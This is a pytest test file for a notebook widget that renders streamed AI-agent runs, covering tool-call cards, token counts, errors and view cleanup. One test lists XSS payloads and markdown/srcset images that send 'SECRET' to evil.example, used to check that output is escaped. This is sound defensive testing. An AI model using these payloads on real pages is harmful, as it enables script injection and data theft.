from __future__ import annotations

import gc
import json
import re
import threading
import weakref
from typing import Any

import ipywidgets
import pytest

from nbmastra.engine import get_engine
from nbmastra.output import MastraModelOutput
from nbmastra.widgets.run_view import RunView
from tests.support.runs import (
    EXPECTED,
    call,
    chunk,
    error,
    finish,
    inside,
    recorded,
    result,
    start,
    step_finish,
    step_start,
    text,
    usage,
)
from tests.widgets.asking import Scripted, act_on, settle, shown, words
from tests.widgets.recording_comm import RecordingComm
from tests.widgets.views import SteppedView, Watched, dangers, flat, watch

ARGS = '{"route":"rouen-dieppe","hours":[8,9,10,1'


def args_start(id: str = "c1", name: str = "get_wind") -> dict[str, Any]:
    return chunk("tool-call-input-streaming-start", {"toolCallId": id, "toolName": name})


def args_delta(piece: str, id: str = "c1") -> dict[str, Any]:
    return chunk("tool-call-delta", {"toolCallId": id, "argsTextDelta": piece})


# --- the whole -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("per_frame", [1, 7])
@pytest.mark.parametrize("names", sorted(EXPECTED))
def test_a_view_that_watched_shows_what_one_opened_late_shows(names: str, per_frame: int) -> None:
    """B47, for every recording: each display has the kernel's document, and that depends on the run alone."""
    chunks, done = recorded(names)
    watched = watch(chunks, per_frame, done=done)
    late = SteppedView(watched.out)
    assert watched.html() == flat({id: {**n, "h": n["h"] or ""} for id, n in late.boot()["nodes"].items()})
    assert "since=" not in watched.html()
    assert "data-nbm-caret" not in watched.html()
    assert dangers(watched.html()) == []


@pytest.mark.parametrize("names", sorted(EXPECTED))
def test_every_frame_of_a_recording_is_safe(names: str) -> None:
    chunks, _ = recorded(names)
    watched = Watched()
    for number, item in enumerate(chunks):
        watched.feed(item)
        if number % 5 == 0:
            assert dangers(watched.html()) == []


def test_text_stands_where_it_came_and_the_answer_is_whole() -> None:
    watched = watch(
        [start(), step_start(), text("Let me **look**."), call("c1"), result("c1", 1), text("It is 4.", "u")]
    )
    html = watched.html()
    assert "<p>Let me <strong>look</strong>.</p>" in html
    assert html.index("look") < html.index("nbm-call") < html.index("It is 4.")


def test_what_a_frame_costs_follows_what_is_new() -> None:
    """B48: 20,000 deltas of 20 characters at 50 a frame; the wire's share of the budget of 3.2 bytes a character."""
    watched = Watched()
    watched.feed(start(), step_start(), chunk("text-start", {"id": "t"}))
    piece = "streamed 20 chars !\n"
    for _ in range(400):
        watched.feed(*[text(piece)] * 50)
    watched.feed(step_finish(used=usage(10, 20_000)), finish(used=usage(10, 20_000)))
    watched.end()
    sizes = [len(json.dumps(message, ensure_ascii=False)) for message in watched.messages()]
    assert sum(sizes) <= 2.4 * 20_000 * len(piece)
    assert max(sizes[5:-5]) < 3 * 50 * len(piece)
    assert watched.html().count("streamed") == 20_000


def test_many_finished_calls_are_not_drawn_again() -> None:
    watched = Watched()
    watched.feed(start(), step_start())
    for number in range(300):
        watched.feed(call(f"c{number}", args={"n": number}), result(f"c{number}", {"n": number}))
    sizes = [len(json.dumps(message)) for message in watched.messages()]
    assert max(sizes[-50:]) < 1.2 * max(sizes[2:50])


def test_a_part_that_cannot_be_drawn_does_not_stop_the_view(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr("nbmastra.widgets.cards.gist", lambda _value: 1 / 0)
    watched = watch([start(), step_start(), call("c1"), result("c1", 1), text("It is 4."), finish()])
    assert "could not be drawn" in caplog.text
    assert "It is 4." in watched.html()
    assert watched.view.ended.is_set()


# --- the bar ---------------------------------------------------------------------------------------------------------


def test_the_bar_tells_who_runs_how_long_and_what_it_used() -> None:
    watched = Watched(context={"thread": "t1", "resource": "u1"})
    watched.feed(start("weather"), step_start(), text("Hi"))
    assert re.search(r'since="\d\.\d', watched.html())
    assert "Running" in words(watched.html())
    watched.feed(step_finish(used=usage(1000, 862)), finish(used=usage(1000, 862)))
    watched.end()
    shown = words(watched.html())
    assert "Completed weather thread t1 of u1" in shown
    assert "tokens 1,862" in shown
    assert "1,000" in shown
    assert "to first token 0.02 s" in shown
    assert 'data-nbm-act="stop" type="button" hidden' in watched.html()


def test_tokens_that_were_not_reported_are_not_zero() -> None:
    shown = words(watch([start(), step_start(), text("Hi"), step_finish(), finish()]).html())
    assert "tokens not reported" in shown


def test_tokens_of_sub_agents_stand_apart() -> None:
    """B15"""
    inner = [
        start("sub", "s"),
        step_start("s"),
        step_finish(used=usage(7, 3), run="s"),
        finish(used=usage(7, 3), run="s"),
    ]
    chunks = [start(), step_start(), call("c1"), *(inside("c1", item) for item in inner), result("c1", {"text": "x"})]
    shown = words(watch([*chunks, step_finish(used=usage(50, 5)), finish(used=usage(50, 5))]).html())
    assert "tokens 55" in shown
    assert "in sub-agents 10" in shown


# --- calls -----------------------------------------------------------------------------------------------------------


def test_arguments_appear_while_they_are_written() -> None:
    watched = Watched()
    watched.feed(start(), step_start(), args_start())
    for piece in (ARGS[:10], ARGS[10:22], ARGS[22:]):
        watched.feed(args_delta(piece))
    html = watched.html()
    assert "<b>get_wind</b>(route=&quot;rouen-dieppe&quot;, hours=[8, 9, 10" in html
    assert "Writing arguments" in html
    assert f'<pre class="nbm-pre">{ARGS.replace(chr(34), "&quot;")}' in html
    watched.feed(args_delta("1]}"), chunk("tool-call-input-streaming-end", {"toolCallId": "c1"}))
    watched.feed(
        call("c1", "get_wind", {"route": "rouen-dieppe", "hours": [8, 9, 10, 11]}), result("c1", [{"kmh": 11}])
    )
    html = watched.html()
    assert "<b>get_wind</b>(route=&quot;rouen-dieppe&quot;, hours=[8, 9, 10, 11])" in html
    assert "Writing arguments" not in html
    assert "<pre" not in html


def test_records_become_a_table_and_all_of_them_are_a_click_away() -> None:
    watched = watch([start(), step_start(), call("c1"), result("c1", [{"day": f"d{n}", "mm": n} for n in range(9)])])
    assert "9 records" in words(watched.html())
    assert "d3" in watched.html()
    assert "d4" not in watched.html()
    act_on(watched, "all")
    assert "d8" in watched.html()
    assert "Show all" not in watched.html()


def test_the_whole_result_is_sent_when_it_is_to_be_copied() -> None:
    value = {"long": "x" * 5000}
    watched = watch([start(), step_start(), call("c1"), result("c1", value)])
    assert "x" * 300 not in watched.html()
    act_on(watched, "copy")
    node = next(n for n in watched.display.nodes.values() if "data-nbm-copy" in n["a"] and n["a"].get("data-nbm-act"))
    assert json.loads(node["a"]["data-nbm-copy"]) == value


def test_a_failed_call_says_why_and_the_run_goes_on() -> None:
    """B27"""
    failed = chunk(
        "tool-error", {"toolCallId": "c1", "toolName": "f", "error": {"message": "boom", "name": "TimeoutError"}}
    )
    shown = words(
        watch([start(), step_start(), call("c1"), failed, text("Never mind."), step_finish(), finish()]).html()
    )
    assert "Failed f () TimeoutError: boom Failed" in shown
    assert "Completed a" in shown


def test_a_sub_agent_is_open_while_it_runs_and_folds_when_it_is_done() -> None:
    watched = Watched()
    watched.feed(start(), step_start(), call("c1", "scout"), inside("c1", start("sub", "s")))
    watched.feed(inside("c1", text("Three *routes*", run="s")))
    assert re.search(r'<details class="nbm-call" open>', watched.html())
    assert "<p>Three <em>routes</em></p>" in watched.html()
    watched.feed(inside("c1", finish(run="s")), result("c1", {"text": "Three routes"}, "scout"))
    assert not re.search(r"<details[^>]* open>", watched.html())
    assert "agent" in words(watched.html())


def test_a_background_call_is_one_card() -> None:
    chunks, done = recorded("background-until-idle.sse")
    html = watch(chunks, done=done).html()
    assert html.count('<details class="nbm-call">') == 2
    assert "Turn 2" in html


def test_the_same_id_in_two_steps_is_two_cards() -> None:
    """B24"""
    step = [step_start(), call("call_0", args={"x": 1}), result("call_0", 1), step_finish("tool-calls", continued=True)]
    again = [step_start(), call("call_0", args={"x": 2}), result("call_0", 2), step_finish(), finish()]
    html = watch([start(), *step, *again]).html()
    assert html.count('<details class="nbm-call">') == 2
    assert "x=1" in html
    assert "x=2" in html


# --- other parts -----------------------------------------------------------------------------------------------------


def test_an_object_grows_along_its_newest_path_and_its_text_is_not_shown() -> None:
    watched = Watched(schema={"type": "object", "title": "Plan"})
    watched.feed(start(), step_start())
    for piece in ('{"day":"Sat","legs":[{"km":24', '},{"from":"Clères","wind":{"gust', '_kmh":2'):
        watched.feed(text(piece))
    html = watched.html()
    assert '<span class="nbm-path">legs[1].wind.gust_kmh</span>' in html or "legs[1].wind" in html
    assert "{km: 24}" in html
    assert "<p>{" not in html
    watched.feed(text("1}}]}"), step_finish(), finish())
    watched.end()
    assert "gust_kmh" in watched.html()
    assert "is-new" not in watched.html()


def test_the_place_where_an_object_does_not_fit_is_marked() -> None:
    schema = {"type": "object", "properties": {"legs": {"items": {"properties": {"km": {"maximum": 40}}}}}}
    body = '{"day":"Sat","legs":[{"km":24},{"from":"Clères","km":41}]}'
    html = watch([start(), step_start(), text(body), step_finish(), finish()], schema=schema).html()
    assert "does not fit at legs[1].km" in html
    assert re.search(r'<li class="is-bad">.*km.*41.*greater than the maximum of 40', html)


def test_prose_that_was_to_be_an_object_is_shown_as_text() -> None:
    html = watch(
        [start(), step_start(), text("I can't"), text(" do that."), finish()], schema={"type": "object"}
    ).html()
    assert "I can't do that." in words(html)


def test_an_image_is_shown_and_any_other_file_is_named() -> None:
    files = [
        chunk("file", {"base64": "aGk=", "mimeType": mime}) for mime in ("image/png", "image/svg+xml", "text/html")
    ]
    html = watch([start(), step_start(), *files, finish()]).html()
    assert 'src="data:image/png;base64,aGk="' in html
    assert "File, image/svg+xml, 3 B" in html
    assert "File, text/html" in html


def test_sources_are_links_at_the_end_that_name_their_host() -> None:
    sources = [
        chunk("source", {"id": str(n), "sourceType": "url", "url": url, "title": t})
        for n, (url, t) in enumerate(
            [("https://weather.example/a", "Hourly"), ("javascript:alert(1)", "Trap"), ("//evil.example", "Other")]
        )
    ]
    html = watch([start(), step_start(), sources[0], text("Saturday."), *sources[1:], finish()]).html()
    assert '<a class="nbm-link" href="https://weather.example/a">Hourly</a><span> weather.example</span>' in html
    assert html.index("Saturday") < html.index("Hourly") < html.index("Trap")
    assert dangers(html) == []


def test_many_notices_of_one_kind_are_counted() -> None:
    broken = chunk("text-delta", {"id": "t"})
    html = watch([start(), step_start(), *[broken] * 50, text("ok"), finish()]).html()
    assert html.count("nbm-notice--warn") == 5
    assert "… and 45 more" in html


# --- endings ---------------------------------------------------------------------------------------------------------


def test_an_error_keeps_what_came_and_says_why() -> None:
    """B19"""
    watched = watch([start(), step_start(), text("Both days"), error({"message": "rate limit", "statusCode": 429})])
    html = watched.html()
    assert "Both days" in html
    assert 'role="alert"' in html
    assert "rate limit" in words(html)
    assert "429" in words(html)
    assert "Run of a failed: rate limit" in words(html)


def test_a_tripwire_says_why_and_takes_the_text_away() -> None:
    """B21"""
    trip = chunk("tripwire", {"reason": "pii", "retry": True, "processorId": "p", "metadata": {"k": 1}}, run=None)
    html = watch([start(), step_start(), text("secret"), trip]).html()
    assert "Stopped by processor p" in html
    assert "pii" in html
    assert "secret" not in html


def test_a_cut_connection_says_how_far_it_came() -> None:
    """B07"""
    html = watch([start(), step_start(), text("Hel")], done=False).html()
    assert "The connection ended before the run did" in html
    assert "Truncated" in html
    assert "Hel" in html


def test_an_abort_inside_a_fence_stays_in_its_part() -> None:
    """B54: what follows an unclosed fence isn't swallowed by it."""
    html = watch([start(), step_start(), text("```py\nx = 1"), call("c1"), text("after", "u"), finish()]).html()
    assert re.search(r"<pre[^>]*><code>.*</code></pre>", html, re.DOTALL)
    assert "<p>after</p>" in html


def test_stopped_by_the_user_is_told_in_a_line() -> None:
    watched = Watched()
    watched.feed(start(), step_start(), text("Both days"))
    watched.end(False, cancelled="stopped by you")
    assert "Stopped by you. What came is kept." in words(watched.html())
    assert "Cancelled" in words(watched.html())


@pytest.mark.parametrize(
    "evil",
    [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=1>",
        "<script>1</script>",
        '"><iframe src=javascript:alert(1)>',
        "![a](https://evil.example/p.png?q=SECRET)",
        "[x](javascript:alert(1))",
        "javascript:alert(1)",
        "<img srcset='https://evil.example/?q=S'>",
    ],
)
def test_what_models_tools_and_servers_say_is_never_markup(evil: str) -> None:
    """B52, B53, at every place where a text from outside is shown."""
    everything = [
        start(evil),
        step_start(),
        chunk("reasoning-delta", {"id": "r", "text": evil}),
        text(evil),
        args_start("c0", evil),
        args_delta(f'{{"{evil[:3]}": {json.dumps(evil)}', "c0"),
        call("c1", evil, {evil: evil, "deep": {evil: [evil]}}),
        result("c1", {evil: evil}, evil),
        call("c2", evil),
        result("c2", [{evil: evil}], evil),
        call("c3", evil),
        chunk(
            "tool-error", {"toolCallId": "c3", "toolName": evil, "error": {"message": evil, "name": evil, "x": evil}}
        ),
        call("c4", evil),
        result("c4", evil, evil),
        chunk("tool-output", {"toolCallId": "c4", "toolName": evil, "output": evil}),
        chunk("file", {"base64": evil, "mimeType": evil}),
        chunk("source", {"id": evil, "sourceType": evil, "url": evil, "title": evil}),
        {"type": f"data-{evil}", "data": {evil: evil}},
        chunk("goal", {"iteration": 1, "reason": evil, "passed": False}),
        chunk("tool-call-suspended", {"toolCallId": "c1", "toolName": evil, "suspendPayload": {evil: evil}}),
        chunk("tool-call-approval", {"toolCallId": "c9", "toolName": evil, "args": {evil: evil}}),
        error({"message": evil, "name": evil, "stack": evil, "code": evil}),
    ]
    watched = Watched(control=Scripted([]), agent=evil)
    for item in everything:
        watched.feed(item)
        assert dangers(watched.html(), "form") == []
    watched.end()
    assert dangers(watched.html(), "form") == []


# --- life ------------------------------------------------------------------------------------------------------------


def test_closing_a_view_in_mid_run_frees_it_and_leaves_the_run_alone(comms: list[RecordingComm]) -> None:
    """B49"""
    go_on = threading.Event()

    def chunks() -> Any:
        yield start()
        yield step_start()
        yield text("Hel")
        go_on.wait()
        yield from (text("lo"), step_finish(), finish())

    out = MastraModelOutput.from_chunks(chunks())
    out.log.wait_blocking(2)
    refs = []
    for _ in range(5):
        view = RunView(out)
        view.close()
        refs.append(weakref.ref(view))
        del view
    get_engine().start(settle).result(5)
    comms.clear()
    gc.collect()
    assert [ref() for ref in refs] == [None] * 5
    go_on.set()
    assert out.text.result(5) == "Hello"
    assert not [w for w in ipywidgets.widgets.widget._instances.values() if isinstance(w, RunView)]


def test_a_finished_output_is_shown_at_once() -> None:
    out = MastraModelOutput.from_chunks([start(), step_start(), text("Hi"), step_finish(), finish()])
    out.wait(5)
    view = RunView(out)
    assert view.ended.is_set()
    assert "Hi" in shown(view)
